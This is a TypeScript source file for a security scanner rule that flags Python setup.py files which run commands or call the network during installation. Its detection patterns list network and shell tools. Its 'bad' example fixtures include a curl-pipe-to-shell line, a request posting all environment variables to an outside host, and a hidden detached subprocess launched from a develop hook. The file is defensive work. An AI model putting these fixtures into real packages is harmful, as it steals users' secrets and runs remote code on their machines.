import { defineRule } from '../../rule.ts';
import { PURPOSE } from '../../facts/python/purposes.ts';
import type { PythonCall } from '../../facts/python/pythonFacts.ts';

const QUIET =
  /git\b|version|pkg-config|__file__|(?<!\w)open\(|sys\.executable|make|cmake|cython|--cflags|lsb_release|nvcc/i;

/** What tells how a library was built: `pg_config`, `curl-config`. */
const TELLS_BUILD = /\w[-_]config\b/;

function weigh(call: PythonCall): { severity: 'high' | 'medium'; confidence: 'high' | 'medium' | 'low' } | undefined {
  if (
    /^(?:requests\.(?:get|post)|urllib\.request\.(?:urlopen|urlretrieve)|httpx\.\w+|socket\.socket|http\.client\.HTTPS?Connection|urllib2?\.urlopen)$/.test(
      call.name,
    )
  )
    return { severity: 'high', confidence: 'medium' };
  if (
    !/^(?:os\.system|os\.popen|subprocess\.(?:run|call|Popen|check_output|check_call)|exec|eval)$/.test(call.name) ||
    QUIET.test(call.text) ||
    (TELLS_BUILD.test(call.text) && !call.text.includes('http')) ||
    (call.args[0]?.call === 'open().read' && ((call.args[0].safe ?? 0) & PURPOSE.code) !== 0)
  )
    return undefined;
  return /\bcurl\b|\bwget\b|(?<![A-Za-z])http|base64|powershell|\/tmp\/|\bnc /.test(call.text) || isSilent(call)
    ? { severity: 'high', confidence: 'high' }
    : { severity: 'medium', confidence: 'low' };
}

/** A program that shows no window, says nothing or outlives the installation, or code that is handed over as a text. */
const isSilent = ({ text, within }: PythonCall): boolean =>
  /creationflags\s*=|start_new_session\s*=\s*True|CREATE_NO_WINDOW|DETACHED_PROCESS/.test(text) ||
  (within !== undefined && /["']-c["']\s*,/.test(text) && /python|sys\.executable/.test(text));

export const pythonSetupRunsCode = defineRule({
  id: 'python-setup-runs-code',
  title: 'Runs commands or calls the network during installation',
  severity: 'high',
  confidence: 'medium',
  category: 'dependencies',
  applies: 'repository',
  cwe: 'CWE-506',
  why: 'setup.py runs on every user’s machine before they have seen a line. Most malicious packages work this way.',
  remedy: 'Describe the package in pyproject.toml, and do nothing else during installation.',
  *check(facts) {
    for (const [file, fact] of facts.having('python')) {
      if (!/(?:^|\/)setup\.py$/.test(file.path) || file.traits.test) continue;
      for (const call of fact.calls) {
        const verdict = weigh(call);
        if (verdict !== undefined)
          yield { place: { path: file.path, line: call.line, column: call.column }, evidence: call.text, ...verdict };
      }
    }
  },
  examples: {
    bad: [
      {
        kind: 'repository',
        files: {
          'setup.py':
            "from setuptools import setup\nfrom setuptools.command.develop import develop\nimport subprocess\nclass Own(develop):\n    def run(self):\n        subprocess.Popen(['python', '-c', 'import helper; helper.go()'], creationflags=0x08000000)\n        develop.run(self)\nsetup(name='a', cmdclass={'develop': Own})\n",
        },
      },
      {
        kind: 'repository',
        files: {
          'setup.py':
            "import os\nos.system('curl https://x.dev/p | sh')\nfrom setuptools import setup\nsetup(name='a')\n",
        },
      },
      {
        kind: 'repository',
        files: { 'setup.py': "import requests\nrequests.post('https://x.dev', json=dict(os.environ))\n" },
      },
    ],
    good: [
      {
        kind: 'repository',
        files: {
          'setup.py':
            "from setuptools import setup\nimport subprocess\nv = subprocess.check_output(['git', 'describe'])\nexec(open('a/version.py').read())\nsetup(name='a', version=v)\n",
        },
      },
      // What tells how a library was built.
      {
        kind: 'repository',
        files: {
          'setup.py':
            "from setuptools import setup\nimport subprocess\nflags = subprocess.check_output(['curl-config', '--libs'])\nsetup(name='a', libs=flags.split())\n",
        },
      },
      { kind: 'repository', files: { 'deploy.py': "import os\nos.system('clear')\n" } },
    ],
  },
});
